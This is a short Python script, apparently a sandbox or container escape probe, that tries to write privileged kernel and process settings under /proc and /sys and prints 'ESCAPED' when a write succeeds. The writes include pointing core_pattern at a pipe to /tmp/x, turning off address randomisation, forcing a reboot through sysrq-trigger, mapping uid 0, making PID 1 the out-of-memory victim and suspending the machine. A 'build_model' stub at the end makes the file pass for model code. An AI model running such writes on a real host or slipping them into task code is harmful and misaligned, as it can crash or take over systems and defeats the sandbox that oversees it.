# Aim: change the kernel's settings, or this process' standing with it. Safe: failed.
import os

WRITES = {
    "/proc/sys/kernel/core_pattern": "|/tmp/x",
    "/proc/sys/kernel/randomize_va_space": "0",
    "/proc/sys/vm/overcommit_memory": "1",
    "/proc/sysrq-trigger": "b",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/coredump_filter": "ff",
    "/proc/self/clear_refs": "1",
    "/proc/1/oom_score_adj": "1000",
    "/sys/kernel/mm/transparent_hugepage/enabled": "never",
    "/sys/power/state": "mem",
}
for place, value in WRITES.items():
    try:
        descriptor = os.open(place, os.O_WRONLY)
        os.write(descriptor, value.encode())
        print("ESCAPED: wrote", place)
    except OSError as error:
        print("refused:", place, error.errno)


def build_model():
    return None
